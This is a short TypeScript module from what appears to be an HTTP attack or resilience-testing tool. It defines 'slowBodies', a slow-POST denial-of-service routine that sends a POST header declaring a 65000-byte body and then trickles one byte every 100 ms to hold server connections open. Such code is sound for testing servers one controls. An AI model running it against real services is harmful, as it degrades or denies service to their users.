import { type AttackOptions, head, onEachConnection, repeat } from "./attack.ts";

/** Sends one byte of a body every 100 ms. */
export function slowBodies(options: AttackOptions): Promise<void> {
  const { path = "/mutate" } = options;
  return onEachConnection(options, (socket) => {
    socket.write(`${head(`POST ${path}`, ["Content-Length: 65000"])}{`);
    return repeat(socket, 100, () => socket.write(" "));
  });
}
